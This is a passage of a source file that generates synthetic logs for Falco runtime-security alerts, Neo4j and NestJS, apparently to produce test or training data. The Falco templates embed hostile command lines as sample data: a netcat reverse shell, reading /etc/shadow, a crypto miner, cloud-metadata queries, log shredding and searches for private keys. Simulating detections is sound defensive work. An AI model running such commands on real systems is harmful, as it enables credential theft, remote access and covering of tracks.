    t(6, (r) => { const sh = r.pick(SHELLS); return falco(r, 'Terminal shell in container', 'Notice', 'A shell was spawned in a container with an attached terminal', [...fproc(r, 'execve', sh, `/bin/${sh}`, r.pick(['runc', 'containerd-shim', 'crun']), `${sh}${r.next() < 0.5 ? ' -il' : ''}`), ['exe_flags', 'evt.arg.flags', 'EXE_WRITABLE'], ...fctx(r, false)], ['T1059', 'container', 'maturity_stable', 'mitre_execution', 'shell']); }),
    t(4, (r) => { const [p, cmd] = r.pick([['cat', 'cat /etc/shadow'], ['python3', 'python3 /tmp/.x/collect.py'], ['vim', 'vim /etc/sudoers'], ['node', 'node /app/dist/main.js'], ['grep', 'grep -r root /etc/shadow']]); const host = r.next() < 0.4; return falco(r, 'Read sensitive file untrusted', 'Warning', 'Sensitive file opened for reading by non-trusted program', [['file', 'fd.name', r.pick(['/etc/shadow', '/etc/sudoers', '/etc/pam.d/common-auth', '/root/.ssh/id_ed25519'])], ['gparent', 'proc.aname[2]', r.pick(['systemd', 'containerd-shim', 'sshd'])], ['ggparent', 'proc.aname[3]', '<NA>'], ['gggparent', 'proc.aname[4]', '<NA>'], ...fproc(r, 'openat', p, `/usr/bin/${p}`, r.pick(SHELLS), cmd), ...fctx(r, host)], ['T1555', 'container', 'filesystem', 'host', 'maturity_stable', 'mitre_credential_access']); }),
    t(3, (r) => { const f = r.pick(['/etc/hosts', '/etc/passwd', '/etc/ld.so.preload', '/etc/cron.d/updater', '/etc/resolv.conf']); return falco(r, 'Write below etc', 'Error', 'File below /etc opened for writing', [['file', 'fd.name', f], ['pcmdline', 'proc.pcmdline', r.pick(['bash', 'sh -c echo 10.0.0.9 repo.internal >> /etc/hosts', 'python3 setup.py'])], ['gparent', 'proc.aname[2]', r.pick(['sshd', 'containerd-shim', 'sudo'])], ...fproc(r, 'openat', r.pick(['tee', 'bash', 'python3', 'sed']), '/usr/bin/tee', 'bash', r.pick([`tee -a ${f}`, `sed -i s/old/new/ ${f}`, 'bash'])), ...fctx(r, r.next() < 0.5)], ['T1098', 'filesystem', 'host', 'maturity_stable', 'mitre_persistence']); }),
    t(6, (r) => { const lp = port(r); return falco(r, 'Contact K8S API Server From Container', 'Notice', 'Unexpected connection to K8s API Server from container', [['connection', 'fd.name', `10.42.${r.int(0, 9)}.${r.int(2, 250)}:${lp}->10.96.0.1:443`], ['lport', 'fd.lport', lp], ['rport', 'fd.rport', 443], ['fd_type', 'fd.type', 'ipv4'], ['fd_proto', 'fd.l4proto', 'tcp'], ...fproc(r, 'connect', r.pick(['curl', 'python3', 'kubectl', 'node']), '/usr/bin/curl', r.pick(SHELLS), r.pick(['curl -sk https://kubernetes.default.svc/api/v1/namespaces', 'python3 -m app.sync', 'kubectl get secrets -A', 'node server.js'])), ...fctx(r, false)], ['T1565', 'container', 'k8s', 'maturity_stable', 'mitre_discovery', 'network']); }),
    t(2, (r) => { const [ns, pod, img, tag] = r.pick(FPODS); const cid = r.hex(12); return falco(r, 'Launch Privileged Container', 'Informational', 'Privileged container started', [['user', 'user.name', 'root'], ['user_loginuid', 'user.loginuid', 0], ['command', 'proc.cmdline', `container:${cid}`], ['pid', 'proc.pid', r.int(300, 900000)], ['k8s.ns', 'k8s.ns.name', ns], ['k8s.pod', 'k8s.pod.name', pod], ['container', 'container.id', cid], ['image', 'container.image', `${img}:${tag}`]], ['T1610', 'container', 'cis', 'maturity_incubating', 'mitre_execution']); }),
    t(3, (r) => { const exe = r.pick(['/tmp/xmrig', '/dev/shm/.x/kworker', '/app/node_modules/.bin/esbuild', '/usr/local/bin/kubectl']); return falco(r, 'Drop and execute new binary in container', 'Critical', 'Executing binary not part of base image', [['proc_exe', 'proc.exe', exe], ['proc_sname', 'proc.sname', r.pick(['bash', 'node', 'sh'])], ['gparent', 'proc.aname[2]', 'containerd-shim'], ['proc_exe_ino_ctime', 'proc.exe_ino.ctime', 1796601600000000000 + r.int(0, 999999999)], ['proc_exe_ino_mtime', 'proc.exe_ino.mtime', 1796601600000000000 + r.int(0, 999999999)], ['proc_cwd', 'proc.cwd', r.pick(['/tmp/', '/app/', '/'])], ['container_start_ts', 'container.start_ts', 1796601600000000000 + r.int(0, 999999999)], ...fproc(r, 'execve', exe.split('/').pop() ?? 'x', exe, r.pick(SHELLS), `${exe.split('/').pop()} ${r.pick(['-o pool.example:3333 --donate-level 1', '--version', '', 'get pods'])}`.trim()), ...fctx(r, false)], ['PCI_DSS_11.5.1', 'T1059', 'TA0003', 'container', 'maturity_stable', 'mitre_persistence', 'process']); }),
    t(1, (r) => falco(r, 'Redirect STDOUT/STDIN to Network Connection in Container', 'Notice', 'Redirect stdout/stdin to network connection', [['gparent', 'proc.aname[2]', 'containerd-shim'], ['ggparent', 'proc.aname[3]', '<NA>'], ['fd.sip', 'fd.sip', r.ip()], ['connection', 'fd.name', `10.42.${r.int(0, 9)}.${r.int(2, 250)}:${port(r)}->${r.ip()}:${r.pick([4444, 443, 9001])}`], ['lport', 'fd.lport', port(r)], ['rport', 'fd.rport', r.pick([4444, 443, 9001])], ['fd_type', 'fd.type', 'ipv4'], ['fd_proto', 'fd.l4proto', 'tcp'], ...fproc(r, 'dup2', r.pick(SHELLS), '/bin/sh', r.pick(['python3', 'perl', 'nc']), r.pick(['sh -i', 'bash -i'])), ...fctx(r, false)], ['T1059', 'container', 'maturity_stable', 'mitre_execution', 'network', 'process'])),
    t(1, (r) => falco(r, 'Clear Log Activities', 'Warning', 'Log files were tampered', [['file', 'fd.name', r.pick(['/var/log/auth.log', '/var/log/syslog', '/var/log/wtmp', '/var/log/nginx/access.log'])], ...fproc(r, 'openat', r.pick(['truncate', 'bash', 'shred']), '/usr/bin/truncate', r.pick(SHELLS), r.pick(['truncate -s 0 /var/log/auth.log', 'shred -u /var/log/wtmp', 'bash'])), ...fctx(r, r.next() < 0.6)], ['NIST_800-53_AU-10', 'T1070', 'container', 'filesystem', 'host', 'maturity_stable', 'mitre_defense_evasion'])),
    t(1, (r) => falco(r, 'Packet socket created in container', 'Notice', 'Packet socket was created in a container', [['socket_info', 'evt.args', `domain=17(AF_PACKET) type=${r.pick([2, 3])} proto=${r.pick([768, 0, 3])}`], ['connection', 'fd.name', '<NA>'], ['lport', 'fd.lport', '<NA>'], ['rport', 'fd.rport', '<NA>'], ['fd_type', 'fd.type', '<NA>'], ['fd_proto', 'fd.l4proto', '<NA>'], ...fproc(r, 'socket', r.pick(['tcpdump', 'nmap', 'python3', 'arping']), '/usr/bin/tcpdump', r.pick(SHELLS), r.pick(['tcpdump -i eth0 -w /tmp/c.pcap', 'nmap -sn 10.42.0.0/16', 'arping 10.42.1.1'])), ...fctx(r, false)], ['T1557.002', 'container', 'maturity_stable', 'mitre_credential_access', 'network'])),
    t(1, (r) => { const ip = r.ip(); const p = r.pick([4444, 9001, 1337]); return falco(r, 'Netcat Remote Code Execution in Container', 'Warning', 'Netcat runs inside container that allows remote code execution', [...fproc(r, 'execve', 'nc', '/usr/bin/nc', r.pick(SHELLS), `nc ${r.pick(['-e /bin/sh', '-c sh', '-e /bin/bash'])} ${ip} ${p}`), ...fctx(r, false)], ['T1059', 'container', 'maturity_stable', 'mitre_execution', 'network', 'process']); }),
    t(1, (r) => falco(r, 'Search Private Keys or Passwords', 'Warning', 'Grep private keys or passwords activities found', [...fproc(r, 'execve', r.pick(['grep', 'find']), '/usr/bin/grep', r.pick(SHELLS), r.pick(['grep -r BEGIN RSA PRIVATE /', 'find / -name id_rsa', 'grep -ri password= /app /etc'])), ['exe_flags', 'evt.arg.flags', 'EXE_WRITABLE|EXE_LOWER_LAYER'], ...fctx(r, r.next() < 0.3)], ['T1552.001', 'container', 'filesystem', 'host', 'maturity_stable', 'mitre_credential_access', 'process'])),
    t(3, (r) => { const pe = r.pick(['/usr/bin/java', '/usr/local/bin/node', '/usr/sbin/nginx', '/usr/bin/php-fpm8.3']); return falco(r, 'Run shell untrusted', 'Notice', 'Shell spawned by untrusted binary', [['parent_exe', 'proc.pexe', pe], ['parent_exepath', 'proc.pexepath', pe], ['pcmdline', 'proc.pcmdline', r.pick(['java -jar /app/app.jar', 'node /app/dist/main.js', 'nginx: worker process', 'php-fpm: pool www'])], ['gparent', 'proc.aname[2]', r.pick(['containerd-shim', 'tini', 'dumb-init'])], ['ggparent', 'proc.aname[3]', '<NA>'], ['aname[4]', 'proc.aname[4]', '<NA>'], ['aname[5]', 'proc.aname[5]', '<NA>'], ['aname[6]', 'proc.aname[6]', '<NA>'], ['aname[7]', 'proc.aname[7]', '<NA>'], ...fproc(r, 'execve', 'sh', '/bin/sh', pe.split('/').pop() ?? 'x', `sh -c ${r.pick(['id', 'curl -s http://169.254.169.254/latest/meta-data/', 'convert /tmp/in.png /tmp/out.webp', 'uname -a'])}`), ...fctx(r, false)], ['T1059.004', 'host', 'container', 'maturity_stable', 'mitre_execution', 'process', 'shell']); }),
    t(2, (r) => { const n = r.int(1, 90000); return JSON.stringify({ hostname: skew(r, ['node-1', 'node-2', 'node-3', 'ip-10-0-3-17'], 0.4), output: `Falco internal: syscall event drop. ${n} system calls dropped in last second.`, output_fields: { ebpf_enabled: '1', n_drops: String(n), n_drops_buffer_clone_fork_enter: '0', n_drops_buffer_clone_fork_exit: String(r.int(0, 9)), n_drops_buffer_execve_enter: '0', n_drops_buffer_other_interest_enter: '0', n_drops_buffer_total: String(n), n_drops_bug: '0', n_drops_page_faults: '0', n_drops_scratch_map: '0', n_evts: String(r.int(100000, 90000000)) }, priority: 'Debug', rule: 'Falco internal: syscall event drop', source: 'syscall', tags: [], time: `${ymd(r)}T${hms(r)}.${nsec(r)}Z` }); }),
    t(0.5, (r) => `${ctime(r)}: Falco version: ${r.pick(['0.39.2', '0.40.0'])} (x86_64)`),
    t(0.5, (r) => `${ctime(r)}:    ${r.pick(['/etc/falco/falco_rules.yaml', '/etc/falco/falco_rules.local.yaml', '/etc/falco/rules.d/k8s-extra.yaml'])} | schema validation: ${r.next() < 0.9 ? 'ok' : 'none'}`),
    t(0.5, (r) => `${ctime(r)}: Opening 'syscall' source with ${r.pick(['modern BPF probe.', 'Kernel module', 'BPF probe. BPF probe path: /root/.falco/falco-bpf.o'])}`),
    t(0.5, (r) => `${ctime(r)}: Starting health webserver with threadiness ${r.pick([2, 4, 8, 16])}, listening on 0.0.0.0:8765`),
  ] },
  { name: 'neo4j', templates: [
    t(6, (r) => `${nj(r, 'INFO')}[o.n.k.i.t.l.c.CheckPointerImpl] ${ndb(r)} Checkpoint triggered by "${skew(r, CKPT, 0.6)}" @ txId: ${r.int(1000, 9000000)}, append index: ${r.int(1000, 9000000)} checkpoint started...`),
    t(6, (r) => `${nj(r, 'INFO')}[o.n.k.i.t.l.c.CheckPointerImpl] ${ndb(r)} Checkpoint triggered by "${skew(r, CKPT, 0.6)}" @ txId: ${r.int(1000, 9000000)}, append index: ${r.int(1000, 9000000)} checkpoint completed in ${r.int(1, 90000)}ms. Checkpoint flushed ${r.int(0, 90000)} pages (${r.int(0, 40)}% of total available pages), in ${r.int(0, 9000)} IOs. Checkpoint performed with IO limit: ${r.next() < 0.7 ? 'unlimited' : `${r.int(300, 900)} IOPS`}, paused in total ${r.int(0, 90)} times( ${r.int(0, 9000)} millis).`),
    t(3, (r) => { const a = r.int(1, 900); return `${nj(r, 'INFO')}[o.n.k.i.t.l.p.LogPruningImpl] ${ndb(r)} Pruned log versions ${a}-${a + r.int(0, 3)}, last checkpoint was made in version ${a + r.int(4, 9)}`; }),
    t(3, (r) => { const v = r.int(1, 900); return `${nj(r, 'INFO')}[o.n.k.i.t.l.f.TransactionLogFile] ${ndb(r)} Rotated to transaction log [/data/transactions/${r.pick(['neo4j', 'system'])}/neostore.transaction.db.${v}] version=${v}, last transaction in previous log=${r.int(1000, 9000000)}, rotation took ${r.int(0, 900)} millis, started after ${r.int(1000, 9000000)} millis.`; }),
    t(2, (r) => { const g = r.int(100, 9000); return `${nj(r, 'WARN')}[o.n.k.i.c.VmPauseMonitorComponent] Detected VM stop-the-world pause: {pauseTime=${g + r.int(0, 90)}, gcTime=${g}, gcCount=${r.int(1, 3)}}`; }),
    t(1, (r) => { const d = r.pick(['neo4j', 'movies']); return `${nj(r, 'INFO')}[o.n.k.a.DatabaseAvailabilityGuard] [${d}/${d === 'neo4j' ? '8a2b9c1d' : 'c41f7e2a'}] Requirement \`Database unavailable\` makes database ${d} unavailable.`; }),
    t(1, (r) => { const d = r.pick(['neo4j', 'movies']); return `${nj(r, 'INFO')}[o.n.k.a.DatabaseAvailabilityGuard] [${d}/${d === 'neo4j' ? '8a2b9c1d' : 'c41f7e2a'}] Fulfilling of requirement 'Database unavailable' makes database ${d} available.`; }),
    t(2, (r) => `${nj(r, 'WARN')}[o.n.b.t.p.ProtocolHandshaker] Unsupported connection type: '${r.pick(['HTTP', 'TLS', 'SSH', 'UNKNOWN'])}'. Bolt protocol only operates over a TCP connection or WebSocket.`),
    t(1.5, (r) => `${nj(r, 'ERROR')}[o.n.b.t.TransportSelectionHandler] Fatal error occurred when initialising pipeline: [id: 0x${r.hex(8)}, L:/10.0.5.${r.int(2, 20)}:7687 ! R:/${r.ip()}:${port(r)}]`),
    t(20, (r) => { const [q, ps] = r.pick(CYPHER); const ms = r.next() < 0.8 ? r.int(0, 90) : r.int(91, 90000); return `${nj(r, 'INFO')}id:${r.int(1, 9000000)} - transaction id:${r.int(1, 9000000)} - ${ms} ms: (planning: ${r.int(0, Math.min(ms, 40))}, waiting: ${r.int(0, 5)}) - ${r.int(0, 90000000)} B - ${r.int(0, 900000)} page hits, ${r.int(0, 900)} page faults - bolt-session\tbolt\t${skew(r, DRIVERS, 0.5)}\t\tclient/10.0.${r.int(3, 6)}.${r.int(2, 250)}:${port(r)}\tserver/10.0.5.${r.int(2, 20)}:7687>\t${skew(r, ['neo4j', 'movies', 'system'], 0.7)} - ${skew(r, ['app', 'neo4j', 'reports'], 0.6)} - ${q} - ${ps(r)} - runtime=${skew(r, ['pipelined', 'slotted', 'parallel', 'system'], 0.7)} - {}`; }),
    t(3, (r) => { const [q, ps] = r.pick(CYPHER); const ms = r.int(0, 9000); return `${nj(r, 'ERROR')}id:${r.int(1, 9000000)} - transaction id:${r.int(1, 9000000)} - ${ms} ms: (planning: ${r.int(0, Math.min(ms, 40))}, waiting: ${r.int(0, 5)}) - ${r.int(0, 90000)} B - ${r.int(0, 9000)} page hits, ${r.int(0, 90)} page faults - bolt-session\tbolt\t${skew(r, DRIVERS, 0.5)}\t\tclient/10.0.${r.int(3, 6)}.${r.int(2, 250)}:${port(r)}\tserver/10.0.5.${r.int(2, 20)}:7687>\t${skew(r, ['neo4j', 'movies'], 0.7)} - ${skew(r, ['app', 'neo4j', 'reports'], 0.6)} - ${q} - ${ps(r)} - runtime=null - {} - ${r.pick(NERR)}`; }),
    t(4, (r) => `${nj(r, 'INFO')}[${skew(r, ['app', 'neo4j', 'reports', ...PEOPLE], 0.4)}]: logged in`),
    t(2, (r) => `${nj(r, 'ERROR')}[${r.pick(['neo4j', 'admin', 'root', 'test', ...PEOPLE])}]: failed to log in: invalid principal or credentials`),
    t(0.5, (r) => `${nj(r, 'INFO')}Bolt enabled on ${r.pick(['0.0.0.0', '10.0.5.11'])}:7687.`),
    t(0.5, (r) => `${nj(r, 'INFO')}Started.`),
    t(0.5, (r) => `${nj(r, 'INFO')}Remote interface available at http://${r.pick(['localhost', 'neo4j-0.neo4j.db.svc.cluster.local', '10.0.5.11'])}:7474/`),
  ] },
  { name: 'nestjs', templates: [
    t(1, (r) => `${nest(r, 'LOG', 'NestFactory')}Starting Nest application...`),
    t(6, (r) => `${nest(r, 'LOG', 'InstanceLoader')}${r.pick(NMODS)} dependencies initialized +${r.int(0, 90)}ms`),
    t(2, (r) => { const [c, p] = r.pick(NROUTES); return `${nest(r, 'LOG', 'RoutesResolver')}${c} {${p}}: +${r.int(0, 9)}ms`; }),
    t(8, (r) => `${nest(r, 'LOG', 'RouterExplorer')}Mapped {${r.pick(r.pick(NROUTES)[2])}} route +${r.int(0, 9)}ms`),
    t(1, (r) => `${nest(r, 'LOG', 'NestApplication')}Nest application successfully started +${r.int(1, 90)}ms`),
    t(22, (r) => nHttp(r, 'GET', [200, 200, 200, 200, 304, 404, 401, 500])),
    t(7, (r) => nHttp(r, 'POST', [201, 201, 200, 400, 422, 500])),
    t(2, (r) => nHttp(r, 'PATCH', [200, 200, 400, 404])),
    t(1, (r) => nHttp(r, 'DELETE', [200, 204, 404])),
    t(3, (r) => `${nest(r, 'ERROR', 'ExceptionsHandler')}${exMsg(r, NEX)}`),
    t(6, (r) => { const n = r.int(1, 9); return `${nest(r, 'LOG', 'OrdersService')}Order ${r.int(1000, 99999)} created for customer ${r.uuid()} (${n} ${plural(n, 'item', 'items')}, total ${r.float(3, 900, 2)} EUR)`; }),
    t(3, (r) => `${nest(r, 'WARN', 'OrdersService')}Order ${r.int(1000, 99999)} has no shipping address, falling back to billing address`),
    t(5, (r) => `${nest(r, 'DEBUG', 'PaymentsService')}Stripe webhook received: ${r.pick(['payment_intent.succeeded', 'payment_intent.payment_failed', 'charge.refunded', 'checkout.session.completed', 'customer.subscription.updated'])} (evt_${r.alnum(24)})`),
    t(2, (r) => `${nest(r, 'ERROR', 'PaymentsService')}Payment intent pi_${r.alnum(24)} failed: ${r.pick(['Your card was declined.', 'Your card has insufficient funds.', 'An error occurred while processing your card. Try again in a little bit.', 'card_declined'])}`),
    t(3, (r) => `${nest(r, 'LOG', 'CartCleanupTask')}Removed ${r.int(0, 900)} expired carts`),
    t(1, (r) => `${nest(r, 'ERROR', 'TypeOrmModule')}Unable to connect to the database. Retrying (${r.int(1, 9)})...`),
    t(2, (r) => `${nest(r, 'WARN', 'ThrottlerGuard')}Too many requests from ${r.ip()} on ${nUrl(r)}`),
    t(0.8, (r) => `${nest(r, 'LOG', 'Bootstrap')}Application is running on: http://${r.pick(['[::1]', '0.0.0.0', 'localhost'])}:${r.pick([3000, 3000, 8080])}`),
  ] },
];
